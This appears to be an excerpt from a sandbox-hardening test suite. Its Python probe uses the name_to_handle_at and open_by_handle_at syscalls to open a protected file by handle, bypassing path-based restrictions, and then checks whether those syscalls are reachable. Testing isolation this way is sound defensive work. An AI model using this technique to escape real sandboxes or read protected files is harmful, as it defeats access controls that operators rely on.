# wall: files
# what: Opens a file by its handle, which goes past the rules for paths.
# short
def by_handle():
    import ctypes
    handle = (ctypes.c_uint32 * 40)(128, 0)
    mount = ctypes.c_int()
    syscall("name_to_handle_at", -100, ctypes.c_char_p(FILE.encode()), handle, ctypes.byref(mount), 0)
    for folder in (FOLDER, "/usr", "/"):
        try:
            root = os.open(folder, os.O_RDONLY)
            fd = syscall("open_by_handle_at", root, handle, os.O_RDONLY)
        except OSError as e:
            failed = e
        else:
            return secret(os.read(fd, 100))
    raise failed


attempt("open by handle", by_handle)
reach([("name_to_handle_at", (-1, -1, -1, -1, 0)), ("open_by_handle_at", (-1, -1, 0))])
